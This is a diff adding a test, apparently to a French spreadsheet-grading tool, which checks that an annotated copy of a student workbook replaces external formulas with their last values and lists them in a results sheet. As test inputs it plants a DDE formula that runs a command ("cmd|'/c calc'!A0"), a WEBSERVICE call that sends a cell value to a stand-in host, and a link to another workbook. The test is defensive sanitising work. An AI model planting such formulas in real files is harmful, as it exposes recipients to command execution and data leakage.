@@ -16,6 +16,8 @@ import { reglagesEnClair, reglagesSaisis } from '../src/sheets/exercices/reglage
 import { degresDuLivret } from '../src/sheets/grilles/gabarit';
 import { COLONNES_SUIVI, LARGEURS_SUIVI, lignesSuivi, MASQUEES_SUIVI } from '../src/sheets/verification/suivi';
 import { cleDesTests } from './aides/cle';
+import { cellulesDuNom } from './aides/classeurs';
+import { formuleExterne } from '../src/check/formulesExternes';
 
 const DATE = '2026-11-23';
 const d = dossierTemporaire('agora-copies-');
@@ -269,6 +271,53 @@ describe('copie annotée', () => {
     const [feuille, adresse] = brut.cellule!.split('!');
     expect((wb.getWorksheet(feuille!)!.getCell(adresse!).fill as ExcelJS.FillPattern).fgColor?.argb).toBe('FFFFC7CE');
   }, 300_000);
+});
+
+describe('copie annotée sans risque à ouvrir', () => {
+  test('une formule qui sort du classeur (WEBSERVICE, lien DDE, autre classeur) devient sa valeur dans la copie annotée, avec une note et une ligne de « Résultats » ; une formule ordinaire reste', async () => {
+    const { f, attendus } = await exercice('stocks', { aleas: ['alerte'] });
+    const rempli = await remplir(f, attendus);
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.readFile(rempli);
+    const ws = wb.getWorksheet('Travail')!;
+    // three cells of the copy: the answer STK_Stock_Alerte calls a web service; two cells below the work, a DDE link and another workbook
+    const [alerte] = cellulesDuNom(wb, 'STK_Stock_Alerte');
+    const valeur = attendus.STK_Stock_Alerte as number;
+    alerte!.feuille.getCell(alerte!.adresse).value = { formula: `WEBSERVICE("http://exemple.invalid/?n="&${alerte!.adresse})`, result: valeur };
+    ws.getCell('K40').value = { formula: "cmd|'/c calc'!A0", result: 0 };
+    ws.getCell('K41').value = { formula: "'C:\\Eleves\\[notes.xlsx]Feuil1'!A1", result: 'x' };
+    ws.getCell('K42').value = { formula: 'SUM(1,2)', result: 3 };
+    const piegee = fichier('piegee.xlsx');
+    await wb.xlsx.writeFile(piegee);
+    const v = await verifierCopie(piegee, { date: DATE });
+    // the value the student's cell last had is what is checked
+    expect(v.rapport.controles.find((c) => c.nom === 'STK_Stock_Alerte')!.statut).toBe('juste');
+    const annotee = fichier('piegee-annotee.xlsx');
+    await ecrireCopieAnnotee(v, annotee);
+    const lu = new ExcelJS.Workbook();
+    await lu.xlsx.readFile(annotee);
+    const t = lu.getWorksheet('Travail')!;
+    const cellule = t.getCell(alerte!.adresse);
+    expect([cellule.value, cellule.formula, String(cellule.note)]).toEqual([valeur, undefined, expect.stringContaining('Formule externe (WEBSERVICE) remplacée par sa dernière valeur')]);
+    expect([t.getCell('K40').value, t.getCell('K41').value]).toEqual([0, 'x']);
+    expect(t.getCell('K42').formula).toBe('SUM(1,2)');
+    const textes: string[] = [];
+    lu.getWorksheet('Résultats')!.eachRow((r) => r.eachCell((c) => void textes.push(String(c.value))));
+    expect(textes.slice(-4)).toEqual([
+      'Formules externes : remplacées par leur valeur dans cette copie',
+      `Feuille « Travail », cellule ${alerte!.adresse} : WEBSERVICE.`,
+      'Feuille « Travail », cellule K40 : lien DDE.',
+      'Feuille « Travail », cellule K41 : référence à un autre classeur.',
+    ]);
+    // nothing of the kind in a text: « ="WEBSERVICE(" » is no call
+    expect([formuleExterne('="WEBSERVICE(" & A1'), formuleExterne('=SOMME(Tableau1[Montant])'), formuleExterne('=HYPERLINK("#Travail!A1";"aller")')]).toEqual([null, null, null]);
+    expect([
+      formuleExterne('=_xlfn.WEBSERVICE("http://x")'),
+      formuleExterne('=FILTERXML(A1,"http://x")'),
+      formuleExterne('=HYPERLINK("https://x.fr","clic")'),
+      formuleExterne('=[1]Feuil1!A1'),
+    ]).toEqual(['WEBSERVICE', 'FILTERXML avec une adresse', 'HYPERLINK vers une adresse extérieure', 'référence à un autre classeur']);
+  });
 });
 
 describe('fichiers refusés', () => {
